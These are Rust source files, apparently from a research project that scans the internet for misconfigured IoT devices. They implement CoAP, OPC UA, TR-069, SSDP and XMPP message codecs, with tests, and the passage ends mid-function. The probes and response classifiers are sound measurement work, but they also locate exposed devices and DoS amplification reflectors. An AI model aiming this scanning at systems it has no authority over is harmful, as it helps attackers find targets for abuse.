//! and classifies hosts by their response (Table 3): a resource listing means
//! "Resource Disclosure", and *any* response at all makes the host usable as
//! a DoS amplification reflector — the largest misconfiguration class in
//! Table 5 (543,341 devices). Implements the 4-byte header, token, option
//! delta encoding, and payload marker.

use crate::error::WireError;

/// CoAP message types.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum MsgType {
    Confirmable,
    NonConfirmable,
    Acknowledgement,
    Reset,
}

impl MsgType {
    const fn bits(self) -> u8 {
        match self {
            MsgType::Confirmable => 0,
            MsgType::NonConfirmable => 1,
            MsgType::Acknowledgement => 2,
            MsgType::Reset => 3,
        }
    }
    const fn from_bits(b: u8) -> MsgType {
        match b & 0x03 {
            0 => MsgType::Confirmable,
            1 => MsgType::NonConfirmable,
            2 => MsgType::Acknowledgement,
            _ => MsgType::Reset,
        }
    }
}

/// A CoAP code, shown in `class.detail` form (e.g. `0.01` = GET, `2.05` =
/// Content, `4.01` = Unauthorized).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Code(pub u8);

impl Code {
    pub const EMPTY: Code = Code(0x00);
    pub const GET: Code = Code(0x01);
    pub const POST: Code = Code(0x02);
    pub const PUT: Code = Code(0x03);
    pub const DELETE: Code = Code(0x04);
    pub const CONTENT: Code = Code(0x45); // 2.05
    pub const CHANGED: Code = Code(0x44); // 2.04
    pub const CREATED: Code = Code(0x41); // 2.01
    pub const BAD_REQUEST: Code = Code(0x80); // 4.00
    pub const UNAUTHORIZED: Code = Code(0x81); // 4.01
    pub const FORBIDDEN: Code = Code(0x83); // 4.03
    pub const NOT_FOUND: Code = Code(0x84); // 4.04

    pub const fn new(class: u8, detail: u8) -> Code {
        Code((class << 5) | (detail & 0x1F))
    }
    pub const fn class(self) -> u8 {
        self.0 >> 5
    }
    pub const fn detail(self) -> u8 {
        self.0 & 0x1F
    }
    pub const fn is_request(self) -> bool {
        self.class() == 0 && self.detail() != 0
    }
    pub const fn is_response(self) -> bool {
        self.class() >= 2
    }
}

impl std::fmt::Display for Code {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}.{:02}", self.class(), self.detail())
    }
}

/// CoAP option numbers (subset).
pub mod option_num {
    pub const URI_PATH: u16 = 11;
    pub const CONTENT_FORMAT: u16 = 12;
    pub const URI_QUERY: u16 = 15;
    pub const ACCEPT: u16 = 17;
}

/// Content-Format 40: application/link-format (CoRE resource listings).
pub const CONTENT_FORMAT_LINK: u16 = 40;

/// One CoAP option (number + raw value).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CoapOption {
    pub number: u16,
    pub value: Vec<u8>,
}

/// A CoAP message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Message {
    pub msg_type: MsgType,
    pub code: Code,
    pub message_id: u16,
    pub token: Vec<u8>,
    /// Options, sorted by number (encoding requires non-decreasing order).
    pub options: Vec<CoapOption>,
    pub payload: Vec<u8>,
}

impl Message {
    /// The scan probe the paper sends: a confirmable GET for
    /// `/.well-known/core`.
    pub fn well_known_core_request(message_id: u16) -> Message {
        Message {
            msg_type: MsgType::Confirmable,
            code: Code::GET,
            message_id,
            token: vec![0x71],
            options: vec![
                CoapOption {
                    number: option_num::URI_PATH,
                    value: b".well-known".to_vec(),
                },
                CoapOption {
                    number: option_num::URI_PATH,
                    value: b"core".to_vec(),
                },
            ],
            payload: Vec::new(),
        }
    }

    /// A 2.05 Content response carrying a link-format resource listing.
    pub fn content_response(request: &Message, link_format: &str) -> Message {
        Message {
            msg_type: MsgType::Acknowledgement,
            code: Code::CONTENT,
            message_id: request.message_id,
            token: request.token.clone(),
            options: vec![CoapOption {
                number: option_num::CONTENT_FORMAT,
                value: vec![CONTENT_FORMAT_LINK as u8],
            }],
            payload: link_format.as_bytes().to_vec(),
        }
    }

    /// The Uri-Path of a request, joined with `/` (e.g. `.well-known/core`).
    pub fn uri_path(&self) -> String {
        let segs: Vec<&str> = self
            .options
            .iter()
            .filter(|o| o.number == option_num::URI_PATH)
            .map(|o| std::str::from_utf8(&o.value).unwrap_or("\u{fffd}"))
            .collect();
        segs.join("/")
    }

    /// Byte range of the big-endian message id in an encoded message
    /// (RFC 7252 §3: version/type/TKL byte, code byte, then the id).
    /// Probe caches patch a fresh id into a pre-encoded template here.
    pub const MESSAGE_ID_RANGE: std::ops::Range<usize> = 2..4;

    pub fn encode(&self) -> Vec<u8> {
        assert!(self.token.len() <= 8, "CoAP token is at most 8 bytes");
        let mut out = Vec::with_capacity(8 + self.payload.len());
        out.push(0x40 | (self.msg_type.bits() << 4) | self.token.len() as u8);
        out.push(self.code.0);
        out.extend_from_slice(&self.message_id.to_be_bytes());
        out.extend_from_slice(&self.token);
        let mut prev = 0u16;
        let mut opts = self.options.clone();
        opts.sort_by_key(|o| o.number);
        for opt in &opts {
            let delta = opt.number - prev;
            prev = opt.number;
            let (dn, dext) = nibble_ext(delta);
            let (ln, lext) = nibble_ext(opt.value.len() as u16);
            out.push((dn << 4) | ln);
            out.extend_from_slice(&dext);
            out.extend_from_slice(&lext);
            out.extend_from_slice(&opt.value);
        }
        if !self.payload.is_empty() {
            out.push(0xFF);
            out.extend_from_slice(&self.payload);
        }
        out
    }

    pub fn decode(bytes: &[u8]) -> Result<Message, WireError> {
        if bytes.len() < 4 {
            return Err(WireError::truncated("coap header", 4 - bytes.len()));
        }
        let ver = bytes[0] >> 6;
        if ver != 1 {
            return Err(WireError::invalid("coap version", ver.to_string()));
        }
        let msg_type = MsgType::from_bits(bytes[0] >> 4);
        let tkl = (bytes[0] & 0x0F) as usize;
        if tkl > 8 {
            return Err(WireError::invalid("coap token length", tkl.to_string()));
        }
        let code = Code(bytes[1]);
        let message_id = u16::from_be_bytes([bytes[2], bytes[3]]);
        if bytes.len() < 4 + tkl {
            return Err(WireError::truncated("coap token", 4 + tkl - bytes.len()));
        }
        let token = bytes[4..4 + tkl].to_vec();
        let mut pos = 4 + tkl;
        let mut options = Vec::new();
        let mut number = 0u16;
        let mut payload = Vec::new();
        while pos < bytes.len() {
            if bytes[pos] == 0xFF {
                if pos + 1 >= bytes.len() {
                    return Err(WireError::invalid("coap payload", "empty after marker"));
                }
                payload = bytes[pos + 1..].to_vec();
                break;
            }
            let dn = bytes[pos] >> 4;
            let ln = bytes[pos] & 0x0F;
            pos += 1;
            let (delta, used) = read_ext(bytes, pos, dn, "coap option delta")?;
            pos += used;
            let (len, used) = read_ext(bytes, pos, ln, "coap option length")?;
            pos += used;
            number = number
                .checked_add(delta)
                .ok_or_else(|| WireError::invalid("coap option number", "overflow"))?;
            let len = len as usize;
            if bytes.len() < pos + len {
                return Err(WireError::truncated("coap option value", pos + len - bytes.len()));
            }
            options.push(CoapOption {
                number,
                value: bytes[pos..pos + len].to_vec(),
            });
            pos += len;
        }
        Ok(Message {
            msg_type,
            code,
            message_id,
            token,
            options,
            payload,
        })
    }
}

/// Split a value into the 4-bit nibble + extension bytes per RFC 7252 §3.1.
fn nibble_ext(v: u16) -> (u8, Vec<u8>) {
    if v < 13 {
        (v as u8, Vec::new())
    } else if v < 269 {
        (13, vec![(v - 13) as u8])
    } else {
        (14, (v - 269).to_be_bytes().to_vec())
    }
}

fn read_ext(bytes: &[u8], pos: usize, nibble: u8, what: &'static str) -> Result<(u16, usize), WireError> {
    match nibble {
        0..=12 => Ok((nibble as u16, 0)),
        13 => {
            let b = *bytes.get(pos).ok_or(WireError::truncated(what, 1))?;
            Ok((b as u16 + 13, 1))
        }
        14 => {
            if bytes.len() < pos + 2 {
                return Err(WireError::truncated(what, pos + 2 - bytes.len()));
            }
            let v = u16::from_be_bytes([bytes[pos], bytes[pos + 1]]);
            Ok((v.saturating_add(269), 2))
        }
        _ => Err(WireError::invalid(what, "nibble 15 is reserved")),
    }
}

/// A parsed CoRE link-format entry: `</path>;attr=value;...`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LinkEntry {
    pub path: String,
    pub attrs: Vec<(String, String)>,
}

/// Render resources as an `application/link-format` document.
pub fn render_link_format(entries: &[LinkEntry]) -> String {
    entries
        .iter()
        .map(|e| {
            let mut s = format!("<{}>", e.path);
            for (k, v) in &e.attrs {
                if v.is_empty() {
                    s.push_str(&format!(";{k}"));
                } else {
                    s.push_str(&format!(";{k}=\"{v}\""));
                }
            }
            s
        })
        .collect::<Vec<_>>()
        .join(",")
}

/// Parse an `application/link-format` document (tolerant).
pub fn parse_link_format(doc: &str) -> Vec<LinkEntry> {
    doc.split(',')
        .filter_map(|item| {
            let item = item.trim();
            let end = item.find('>')?;
            if !item.starts_with('<') {
                return None;
            }
            let path = item[1..end].to_string();
            let attrs = item[end + 1..]
                .split(';')
                .filter(|a| !a.is_empty())
                .map(|a| match a.split_once('=') {
                    Some((k, v)) => (k.to_string(), v.trim_matches('"').to_string()),
                    None => (a.to_string(), String::new()),
                })
                .collect();
            Some(LinkEntry { path, attrs })
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_display() {
        assert_eq!(Code::GET.to_string(), "0.01");
        assert_eq!(Code::CONTENT.to_string(), "2.05");
        assert_eq!(Code::UNAUTHORIZED.to_string(), "4.01");
        assert!(Code::GET.is_request());
        assert!(Code::CONTENT.is_response());
    }

    #[test]
    fn golden_well_known_core() {
        let m = Message::well_known_core_request(0x1234);
        let wire = m.encode();
        // ver=1 type=CON tkl=1 -> 0x41; code GET=0.01 -> 0x01; mid 0x1234.
        assert_eq!(&wire[..4], &[0x41, 0x01, 0x12, 0x34]);
        assert_eq!(wire[4], 0x71); // token
        // First option: delta 11 (Uri-Path), length 11 (".well-known") -> 0xBB.
        assert_eq!(wire[5], 0xBB);
        let back = Message::decode(&wire).unwrap();
        assert_eq!(back, m);
        assert_eq!(back.uri_path(), ".well-known/core");
    }

    #[test]
    fn content_response_roundtrip() {
        let req = Message::well_known_core_request(7);
        let resp = Message::content_response(&req, "</sensors/temp>;rt=\"temperature\"");
        let back = Message::decode(&resp.encode()).unwrap();
        assert_eq!(back.code, Code::CONTENT);
        assert_eq!(back.message_id, 7);
        assert_eq!(back.payload, b"</sensors/temp>;rt=\"temperature\"");
    }

    #[test]
    fn large_option_deltas() {
        // Uri-Query is number 15; a custom large option exercises the
        // 13/14-nibble extension paths.
        let m = Message {
            msg_type: MsgType::NonConfirmable,
            code: Code::POST,
            message_id: 9,
            token: vec![],
            options: vec![
                CoapOption {
                    number: option_num::URI_PATH,
                    value: b"x".to_vec(),
                },
                CoapOption {
                    number: 300,
                    value: vec![1, 2, 3],
                },
                CoapOption {
                    number: 2000,
                    value: vec![0; 300],
                },
            ],
            payload: b"p".to_vec(),
        };
        let back = Message::decode(&m.encode()).unwrap();
        assert_eq!(back, m);
    }

    #[test]
    fn rejects_bad_input() {
        assert!(Message::decode(&[]).is_err());
        assert!(Message::decode(&[0x81, 0, 0, 0]).is_err()); // version 2
        assert!(Message::decode(&[0x4F, 0, 0, 0]).is_err()); // tkl 15
        assert!(Message::decode(&[0x41, 0x01, 0, 0]).is_err()); // missing token
        // Payload marker with nothing after it.
        assert!(Message::decode(&[0x40, 0x01, 0, 0, 0xFF]).is_err());
    }

    #[test]
    fn link_format_roundtrip() {
        let entries = vec![
            LinkEntry {
                path: "/sensors/smoke".into(),
                attrs: vec![("rt".into(), "smoke-sensor".into()), ("obs".into(), String::new())],
            },
            LinkEntry {
                path: "/ndm/login".into(),
                attrs: vec![],
            },
        ];
        let doc = render_link_format(&entries);
        assert_eq!(
            doc,
            "</sensors/smoke>;rt=\"smoke-sensor\";obs,</ndm/login>"
        );
        assert_eq!(parse_link_format(&doc), entries);
    }

    #[test]
    fn link_format_tolerates_garbage() {
        assert!(parse_link_format("not a link format").is_empty());
        assert_eq!(parse_link_format("<ok>,garbage,<also>").len(), 2);
    }
}
