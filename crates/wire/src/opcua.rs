//! OPC UA binary transport — Hello/Acknowledge (future-work scope, §6).
//!
//! The industrial-IoT protocol the paper names for its extended scanning
//! scope. OPC UA's TCP transport opens with a `HEL` message (protocol
//! version, buffer sizes, endpoint URL) answered by `ACK`; a scan of port
//! 4840 that receives an ACK has found an OPC UA server, and the endpoint
//! URL in the exchange identifies the product. We implement the Hello and
//! Acknowledge chunks of the binary framing (OPC 10000-6 §7.1).

use crate::error::WireError;

/// The well-known OPC UA port.
pub const PORT: u16 = 4_840;

/// A HEL (Hello) message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hello {
    pub protocol_version: u32,
    pub receive_buffer_size: u32,
    pub send_buffer_size: u32,
    pub max_message_size: u32,
    pub max_chunk_count: u32,
    /// The endpoint the client wants, e.g. `opc.tcp://host:4840/`.
    pub endpoint_url: String,
}

impl Hello {
    /// A scanner's default Hello.
    pub fn probe(endpoint_url: &str) -> Hello {
        Hello {
            protocol_version: 0,
            receive_buffer_size: 65_536,
            send_buffer_size: 65_536,
            max_message_size: 0,
            max_chunk_count: 0,
            endpoint_url: endpoint_url.into(),
        }
    }

    pub fn encode(&self) -> Vec<u8> {
        let url = self.endpoint_url.as_bytes();
        let size = 8 + 20 + 4 + url.len();
        let mut out = Vec::with_capacity(size);
        out.extend_from_slice(b"HEL");
        out.push(b'F'); // final chunk
        out.extend_from_slice(&(size as u32).to_le_bytes());
        out.extend_from_slice(&self.protocol_version.to_le_bytes());
        out.extend_from_slice(&self.receive_buffer_size.to_le_bytes());
        out.extend_from_slice(&self.send_buffer_size.to_le_bytes());
        out.extend_from_slice(&self.max_message_size.to_le_bytes());
        out.extend_from_slice(&self.max_chunk_count.to_le_bytes());
        out.extend_from_slice(&(url.len() as u32).to_le_bytes());
        out.extend_from_slice(url);
        out
    }

    pub fn decode(bytes: &[u8]) -> Result<Hello, WireError> {
        if bytes.len() < 8 {
            return Err(WireError::truncated("opcua header", 8 - bytes.len()));
        }
        if &bytes[..3] != b"HEL" {
            return Err(WireError::BadMagic { what: "opcua hello" });
        }
        let size = u32::from_le_bytes([bytes[4], bytes[5], bytes[6], bytes[7]]) as usize;
        if bytes.len() < size || size < 32 {
            return Err(WireError::truncated("opcua hello body", size.saturating_sub(bytes.len())));
        }
        let u32_at = |o: usize| u32::from_le_bytes([bytes[o], bytes[o + 1], bytes[o + 2], bytes[o + 3]]);
        let url_len = u32_at(28) as usize;
        if url_len > size - 32 {
            return Err(WireError::invalid("opcua url length", url_len.to_string()));
        }
        let endpoint_url = String::from_utf8_lossy(&bytes[32..32 + url_len]).into_owned();
        Ok(Hello {
            protocol_version: u32_at(8),
            receive_buffer_size: u32_at(12),
            send_buffer_size: u32_at(16),
            max_message_size: u32_at(20),
            max_chunk_count: u32_at(24),
            endpoint_url,
        })
    }
}

/// An ACK (Acknowledge) message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Acknowledge {
    pub protocol_version: u32,
    pub receive_buffer_size: u32,
    pub send_buffer_size: u32,
    pub max_message_size: u32,
    pub max_chunk_count: u32,
}

impl Acknowledge {
    /// A server's standard acknowledge.
    pub fn standard() -> Acknowledge {
        Acknowledge {
            protocol_version: 0,
            receive_buffer_size: 65_536,
            send_buffer_size: 65_536,
            max_message_size: 16 * 1024 * 1024,
            max_chunk_count: 4_096,
        }
    }

    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(28);
        out.extend_from_slice(b"ACK");
        out.push(b'F');
        out.extend_from_slice(&28u32.to_le_bytes());
        out.extend_from_slice(&self.protocol_version.to_le_bytes());
        out.extend_from_slice(&self.receive_buffer_size.to_le_bytes());
        out.extend_from_slice(&self.send_buffer_size.to_le_bytes());
        out.extend_from_slice(&self.max_message_size.to_le_bytes());
        out.extend_from_slice(&self.max_chunk_count.to_le_bytes());
        out
    }

    pub fn decode(bytes: &[u8]) -> Result<Acknowledge, WireError> {
        if bytes.len() < 28 {
            return Err(WireError::truncated("opcua ack", 28usize.saturating_sub(bytes.len())));
        }
        if &bytes[..3] != b"ACK" {
            return Err(WireError::BadMagic { what: "opcua ack" });
        }
        let u32_at = |o: usize| u32::from_le_bytes([bytes[o], bytes[o + 1], bytes[o + 2], bytes[o + 3]]);
        Ok(Acknowledge {
            protocol_version: u32_at(8),
            receive_buffer_size: u32_at(12),
            send_buffer_size: u32_at(16),
            max_message_size: u32_at(20),
            max_chunk_count: u32_at(24),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hello_roundtrip() {
        let h = Hello::probe("opc.tcp://16.0.9.9:4840/");
        let wire = h.encode();
        assert_eq!(&wire[..4], b"HELF");
        assert_eq!(Hello::decode(&wire).unwrap(), h);
    }

    #[test]
    fn ack_roundtrip() {
        let a = Acknowledge::standard();
        let wire = a.encode();
        assert_eq!(&wire[..4], b"ACKF");
        assert_eq!(wire.len(), 28);
        assert_eq!(Acknowledge::decode(&wire).unwrap(), a);
    }

    #[test]
    fn rejects_garbage() {
        assert!(Hello::decode(b"").is_err());
        assert!(Hello::decode(b"MSGF\x20\x00\x00\x00").is_err());
        assert!(Acknowledge::decode(b"HELF").is_err());
        // URL length larger than the message.
        let mut wire = Hello::probe("x").encode();
        wire[28] = 0xFF;
        assert!(Hello::decode(&wire).is_err());
    }
}
