//! TR-069 / CWMP (future-work scope, paper §6).
//!
//! "With regard to future work, we plan to extend the scanning scope of
//! protocols to include TR069, SMB, and industrial IoT protocols like DDS
//! and OPC UA." TR-069 is the ISP CPE-management protocol: the ACS speaks
//! SOAP-over-HTTP to a connection-request endpoint on TCP 7547. A scan of
//! 7547 reads the connection-request response; misconfigured CPEs answer
//! without authentication and leak manufacturer/OUI/product-class via the
//! Inform they fire at whoever connected (the Mirai-era TR-064/TR-069 attack
//! surface). We implement the minimal envelope that exchange needs.

use crate::error::WireError;

/// The well-known TR-069 connection-request port.
pub const PORT: u16 = 7_547;

/// A CWMP Inform — the device-identity message a CPE emits.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Inform {
    pub manufacturer: String,
    /// IEEE OUI of the vendor, six hex digits.
    pub oui: String,
    pub product_class: String,
    pub serial_number: String,
    /// Inform event code, e.g. `6 CONNECTION REQUEST`.
    pub event: String,
}

impl Inform {
    /// Render the SOAP envelope (minimal subset of the CWMP schema).
    pub fn render(&self) -> String {
        format!(
            "<soap:Envelope xmlns:cwmp=\"urn:dslforum-org:cwmp-1-0\"><soap:Body><cwmp:Inform>\
             <DeviceId><Manufacturer>{}</Manufacturer><OUI>{}</OUI>\
             <ProductClass>{}</ProductClass><SerialNumber>{}</SerialNumber></DeviceId>\
             <Event><EventStruct><EventCode>{}</EventCode></EventStruct></Event>\
             </cwmp:Inform></soap:Body></soap:Envelope>",
            self.manufacturer, self.oui, self.product_class, self.serial_number, self.event
        )
    }

    /// Extract an Inform from received text (tolerant tag scraping, the way
    /// a banner-grab pipeline treats SOAP).
    pub fn parse(text: &str) -> Result<Inform, WireError> {
        if !text.contains("cwmp:Inform") {
            return Err(WireError::BadMagic { what: "cwmp inform" });
        }
        let tag = |name: &str| -> String {
            let open = format!("<{name}>");
            let close = format!("</{name}>");
            match (text.find(&open), text.find(&close)) {
                (Some(a), Some(b)) if a + open.len() <= b => {
                    text[a + open.len()..b].to_string()
                }
                _ => String::new(),
            }
        };
        Ok(Inform {
            manufacturer: tag("Manufacturer"),
            oui: tag("OUI"),
            product_class: tag("ProductClass"),
            serial_number: tag("SerialNumber"),
            event: tag("EventCode"),
        })
    }
}

/// The connection-request probe an ACS (or a scanner) sends.
pub fn connection_request() -> crate::http::Request {
    crate::http::Request::get("/tr069/connectionrequest")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn inform() -> Inform {
        Inform {
            manufacturer: "Huawei".into(),
            oui: "00259E".into(),
            product_class: "HG532e".into(),
            serial_number: "48575443".into(),
            event: "6 CONNECTION REQUEST".into(),
        }
    }

    #[test]
    fn roundtrip() {
        let i = inform();
        let text = i.render();
        assert!(text.contains("urn:dslforum-org:cwmp-1-0"));
        assert_eq!(Inform::parse(&text).unwrap(), i);
    }

    #[test]
    fn rejects_non_cwmp() {
        assert!(Inform::parse("<html>nope</html>").is_err());
    }

    #[test]
    fn tolerates_missing_fields() {
        let partial = "<cwmp:Inform><Manufacturer>ZTE</Manufacturer></cwmp:Inform>";
        let i = Inform::parse(partial).unwrap();
        assert_eq!(i.manufacturer, "ZTE");
        assert!(i.oui.is_empty());
    }

    #[test]
    fn probe_targets_connection_request_path() {
        let req = connection_request();
        assert_eq!(req.method, "GET");
        assert!(req.path.contains("connectionrequest"));
    }
}
