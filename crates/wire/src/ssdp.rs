//! SSDP / UPnP — discovery codec.
//!
//! The paper's UPnP scan sends an `ssdp:discover` M-SEARCH to UDP 1900 and
//! classifies any host whose response discloses a root device as
//! "Resource Disclosure" (Table 3) — the single largest misconfiguration
//! class in Table 5 (998,129 devices), exploitable for SSDP amplification.
//! Device types are then derived from the `SERVER`, `Friendly Name` and
//! `Model Name` fields (Appendix Table 11).
//!
//! SSDP messages are HTTP-like header blocks over UDP; this module formats
//! and parses them, plus a device-description struct standing in for the XML
//! document behind `LOCATION`.

use crate::error::WireError;

/// The standard discovery probe, as sent by the paper's custom UDP scan.
pub fn msearch_all() -> String {
    "M-SEARCH * HTTP/1.1\r\n\
     HOST: 239.255.255.250:1900\r\n\
     MAN: \"ssdp:discover\"\r\n\
     MX: 3\r\n\
     ST: ssdp:all\r\n\r\n"
        .to_string()
}

/// An SSDP message: start line plus ordered headers.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SsdpMessage {
    pub start_line: String,
    pub headers: Vec<(String, String)>,
}

impl SsdpMessage {
    /// A 200 OK discovery response advertising a root device.
    pub fn discovery_response(server: &str, usn_uuid: &str, location: &str) -> SsdpMessage {
        SsdpMessage {
            start_line: "HTTP/1.1 200 OK".into(),
            headers: vec![
                ("CACHE-CONTROL".into(), "max-age=120".into()),
                ("ST".into(), "upnp:rootdevice".into()),
                ("USN".into(), format!("uuid:{usn_uuid}::upnp:rootdevice")),
                ("EXT".into(), String::new()),
                ("SERVER".into(), server.into()),
                ("LOCATION".into(), location.into()),
            ],
        }
    }

    pub fn render(&self) -> String {
        let mut s = format!("{}\r\n", self.start_line);
        for (k, v) in &self.headers {
            s.push_str(&format!("{k}: {v}\r\n"));
        }
        s.push_str("\r\n");
        s
    }

    /// Parse an SSDP header block. Requires a start line; tolerates missing
    /// trailing blank line (datagram truncation).
    pub fn parse(text: &str) -> Result<SsdpMessage, WireError> {
        let mut lines = text.split("\r\n");
        let start_line = lines
            .next()
            .filter(|l| !l.is_empty())
            .ok_or(WireError::BadMagic { what: "ssdp" })?
            .to_string();
        if !start_line.contains("HTTP/1.1") && !start_line.contains("HTTP/1.0") {
            return Err(WireError::BadMagic { what: "ssdp" });
        }
        let mut headers = Vec::new();
        for line in lines {
            if line.is_empty() {
                break;
            }
            match line.split_once(':') {
                Some((k, v)) => headers.push((k.trim().to_string(), v.trim().to_string())),
                None => {
                    return Err(WireError::invalid("ssdp header", line.to_string()));
                }
            }
        }
        Ok(SsdpMessage {
            start_line,
            headers,
        })
    }

    /// Case-insensitive header lookup (SSDP implementations vary wildly).
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    /// Whether this is an M-SEARCH discovery probe.
    pub fn is_msearch(&self) -> bool {
        self.start_line.starts_with("M-SEARCH")
    }

    /// Whether this response discloses a root device.
    pub fn discloses_rootdevice(&self) -> bool {
        self.header("ST").is_some_and(|v| v.contains("rootdevice"))
            || self.header("USN").is_some_and(|v| v.contains("rootdevice"))
    }
}

/// The device description document behind `LOCATION` — the fields Appendix
/// Table 11 identifies devices with. Rendered in a compact text form the
/// ZTag-style tagger matches on (`Friendly Name: …`, `Model Name: …`),
/// mirroring how the paper quotes these responses.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct DeviceDescription {
    pub friendly_name: String,
    pub manufacturer: String,
    pub model_name: String,
    pub model_description: String,
    pub model_number: String,
}

impl DeviceDescription {
    pub fn render(&self) -> String {
        let mut s = String::new();
        let mut field = |label: &str, v: &str| {
            if !v.is_empty() {
                s.push_str(&format!("{label}: {v}\r\n"));
            }
        };
        field("Friendly Name", &self.friendly_name);
        field("Manufacturer", &self.manufacturer);
        field("Model Name", &self.model_name);
        field("Model Description", &self.model_description);
        field("Model Number", &self.model_number);
        s
    }

    pub fn parse(text: &str) -> DeviceDescription {
        let mut d = DeviceDescription::default();
        for line in text.lines() {
            if let Some((k, v)) = line.split_once(':') {
                let v = v.trim().trim_end_matches('\r').to_string();
                match k.trim() {
                    "Friendly Name" => d.friendly_name = v,
                    "Manufacturer" => d.manufacturer = v,
                    "Model Name" => d.model_name = v,
                    "Model Description" => d.model_description = v,
                    "Model Number" => d.model_number = v,
                    _ => {}
                }
            }
        }
        d
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn msearch_is_recognized() {
        let probe = msearch_all();
        let m = SsdpMessage::parse(&probe).unwrap();
        assert!(m.is_msearch());
        assert_eq!(m.header("st"), Some("ssdp:all"));
        assert_eq!(m.header("MAN"), Some("\"ssdp:discover\""));
    }

    #[test]
    fn golden_discovery_response_matches_paper_shape() {
        // Table 3's example response: upnp:rootdevice with MiniUPnPd SERVER.
        let resp = SsdpMessage::discovery_response(
            "Ubuntu/lucid UPnP/1.0 MiniUPnPd/1.4",
            "5a34308c-1a2c-4546-ac5d-7663dd01dca1",
            "http://192.168.0.1:16537/rootDesc.xml",
        );
        let text = resp.render();
        assert!(text.contains("ST: upnp:rootdevice\r\n"));
        assert!(text.contains("SERVER: Ubuntu/lucid UPnP/1.0 MiniUPnPd/1.4\r\n"));
        let back = SsdpMessage::parse(&text).unwrap();
        assert!(back.discloses_rootdevice());
        assert_eq!(
            back.header("usn"),
            Some("uuid:5a34308c-1a2c-4546-ac5d-7663dd01dca1::upnp:rootdevice")
        );
    }

    #[test]
    fn parse_rejects_non_http() {
        assert!(SsdpMessage::parse("").is_err());
        assert!(SsdpMessage::parse("GARBAGE\r\nmore\r\n").is_err());
        assert!(SsdpMessage::parse("HTTP/1.1 200 OK\r\nno-colon-line\r\n").is_err());
    }

    #[test]
    fn device_description_roundtrip() {
        let d = DeviceDescription {
            friendly_name: "N100 H.264 IP Camera - 004B1000E3E2".into(),
            manufacturer: "Beward".into(),
            model_name: "N100".into(),
            model_description: String::new(),
            model_number: String::new(),
        };
        let text = d.render();
        assert!(text.contains("Friendly Name: N100 H.264 IP Camera - 004B1000E3E2"));
        assert_eq!(DeviceDescription::parse(&text), d);
    }

    #[test]
    fn parse_skips_unknown_fields() {
        let d = DeviceDescription::parse("Nonsense: x\r\nModel Name: RTL8671\r\n");
        assert_eq!(d.model_name, "RTL8671");
        assert!(d.friendly_name.is_empty());
    }
}
