//! XMPP (RFC 6120 subset) — stream headers and SASL feature advertisement.
//!
//! The paper scans client port 5222 and server port 5269 for servers that
//! allow non-TLS connections, and inspects the advertised SASL mechanisms:
//! `<mechanism>PLAIN</mechanism>` means credentials travel unencrypted and
//! `<mechanism>ANONYMOUS</mechanism>` means login without credentials —
//! the two Table 2 indicators (143,986 anonymous-login devices in Table 5).
//!
//! XMPP is XML; a full parser is out of scope, but banner grabbing only needs
//! the stream open tag and the `<stream:features>` block, so this module
//! implements exactly that with a small, strict renderer and a tolerant
//! extractor.

use crate::error::WireError;

/// SASL mechanisms relevant to the study.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Mechanism {
    Plain,
    Anonymous,
    ScramSha1,
    External,
}

impl Mechanism {
    pub const fn name(self) -> &'static str {
        match self {
            Mechanism::Plain => "PLAIN",
            Mechanism::Anonymous => "ANONYMOUS",
            Mechanism::ScramSha1 => "SCRAM-SHA-1",
            Mechanism::External => "EXTERNAL",
        }
    }

    pub fn from_name(s: &str) -> Option<Mechanism> {
        match s {
            "PLAIN" => Some(Mechanism::Plain),
            "ANONYMOUS" => Some(Mechanism::Anonymous),
            "SCRAM-SHA-1" => Some(Mechanism::ScramSha1),
            "EXTERNAL" => Some(Mechanism::External),
            _ => None,
        }
    }
}

/// What an XMPP server advertises when a client opens a stream.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StreamFeatures {
    /// The server's JID domain (e.g. `hue-bridge.local`).
    pub from: String,
    /// Stream id.
    pub id: String,
    /// Whether STARTTLS is offered, and whether it is `<required/>`.
    pub starttls: Option<TlsPolicy>,
    /// Advertised SASL mechanisms.
    pub mechanisms: Vec<Mechanism>,
    /// Server software version string (some servers leak it in stream attrs).
    pub version: Option<String>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TlsPolicy {
    Optional,
    Required,
}

/// The stream-open a scanner/client sends.
pub fn client_stream_open(to: &str) -> String {
    format!(
        "<?xml version='1.0'?><stream:stream to='{to}' xmlns='jabber:client' \
         xmlns:stream='http://etherx.jabber.org/streams' version='1.0'>"
    )
}

impl StreamFeatures {
    /// Render the server's stream-open + features block, as a banner grab
    /// would receive it.
    pub fn render(&self) -> String {
        let mut s = format!(
            "<?xml version='1.0'?><stream:stream from='{}' id='{}' \
             xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' \
             version='1.0'{}>",
            self.from,
            self.id,
            match &self.version {
                Some(v) => format!(" server-version='{v}'"),
                None => String::new(),
            }
        );
        s.push_str("<stream:features>");
        match self.starttls {
            Some(TlsPolicy::Required) => s.push_str(
                "<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'><required/></starttls>",
            ),
            Some(TlsPolicy::Optional) => {
                s.push_str("<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>")
            }
            None => {}
        }
        if !self.mechanisms.is_empty() {
